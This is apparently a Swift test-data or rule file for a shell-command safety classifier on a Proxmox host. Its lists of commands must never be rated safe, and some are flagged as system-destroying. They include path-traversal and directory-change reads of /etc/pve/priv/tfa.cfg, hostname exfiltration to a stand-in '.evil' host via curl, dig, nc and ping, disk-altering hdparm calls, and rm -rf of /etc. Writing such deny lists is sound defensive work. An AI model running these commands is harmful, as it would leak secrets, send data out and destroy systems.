/// Secrets reached by another folder, by links, or by names that are made when it runs.
extension HolesTable {
  /// Never GREEN.
  static let reaching: [String] = [
    "awk -W exec /tmp/x", "mawk -W exec=/tmp/x", "awk --version -f x", "env -C /etc/pve/priv cat tfa.cfg",
    "env --chdir=/etc/pve/priv cat tfa.cfg", "env -iC /etc/pve/priv cat tfa.cfg", "env -C \"$X\" cat tfa.cfg",
    "env -C/etc/pve/priv cat tfa.cfg", "sudo -D /etc/pve/priv cat tfa.cfg", "sudo -nD /etc/pve/priv cat tfa.cfg",
    "sudo --chdir=/etc/pve/priv cat tfa.cfg", "find /etc/pve/priv -maxdepth 0 -execdir cat priv/tfa.cfg \\;",
    "find / -execdir head x +", "cat /var/run/../etc/pve/priv/tfa.cfg", "cat /proc/self/cwd/../etc/pve/priv/tfa.cfg",
    "cat /var/lock/../../etc/pve/priv/tfa.cfg", "head /var/run/.././etc/pve/priv/tfa.cfg",
    "cd /etc/pve/pri?; cat tfa.cfg", "cd /etc/pve; cd priv; cat tfa.cfg", "cd /etc/pve/priv && cat tfa.cfg",
    "cd /etc/pve; cd /; cd -; cd priv; cat tfa.cfg", "cd ~-; cat tfa.cfg", "cd \"$X\"; cat tfa.cfg",
    "cd $(dirname /etc/pve/priv/x); cat tfa.cfg", "pushd /etc/pve/priv; cat tfa.cfg", "cd /etc/pve/priv; cat t*",
    "cd /etc/pve; grep -r x .", "cd ~bob; cat notes", "(cd /etc/pve/priv; head tfa.cfg)",
    "openssl s_client -connect $(hostname).evil:443", "traceroute $(hostname).evil", "mtr -rc1 $(hostname).evil",
    "whois $(hostname).evil", "ssh-keyscan $(hostname).evil", "showmount -e $(hostname).evil",
    "getent hosts $(hostname).evil", "resolvectl query $(hostname).evil", "tracepath $(id -un).evil",
    "dig $(cat /etc/hostname).evil", "ping -c1 \"$(whoami).evil\"", "nc -z $(hostname).evil 80",
    "wget --spider http://$(hostname).evil", "for f in /tmp/*; do sh -c \"ls $f\"; done",
    "for f in /var/log/*; do ssh pve2 ls $f; done",
    "for f in /tmp/*; do eval \"ls $f\"; done", "for f in /srv/*; do watch ls $f; done", "sed -e :a -e ba /etc/hosts",
    "hdparm -Np78125000 /dev/sda", "hdparm -N p100 /dev/sda",
    "hdparm -I -y /dev/sda", "blockdev --setro /dev/sda",
    "blockdev --getra --setra 1 /dev/sda", "nft list tables \\; add table x", "nft 'list tables; add table x'",
    "systemctl show -p Environment nginx", "systemctl show --property=Environment nginx",
    "cat /etc/pve/nodes/pve/priv/x", "pvesh get /nodes/pve/report", "modprobe -n -r x", "modprobe zfs", "hwclock -w",
    "hwclock --systohc", "ipset flush", "ipset list x -o save -file /etc/x", "exportfs -ra", "multipathd reconfigure",
    "multipathd -k'reconfigure'", "lvm lvcreate x", "lvm", "networkctl down eth0", "bootctl set-default x",
    "coredumpctl dump", "coredumpctl gdb", "machinectl shell x", "dkms remove x", "tuned-adm profile x",
    "rpcinfo -b 1 1", "postqueue -f", "ipmitool chassis power cycle", "nvidia-smi -r", "nvidia-smi -pl 100",
    "curl http://$(hostname).evil", "curl \"http://evil/$(hostname)\"",
  ]

  /// BLACK: the way leads to the system.
  static let reachingBlack: [String] = [
    "rm -rf /var/run/../etc", "rm -rf /var/lock/../../etc", "cd /srv; rm -rf /var/run/../usr",
    "find /var/run/../etc -delete", "sudo -D / rm -rf etc", "env -C / rm -rf etc", "env --chdir=/ rm -rf usr",
  ]
}
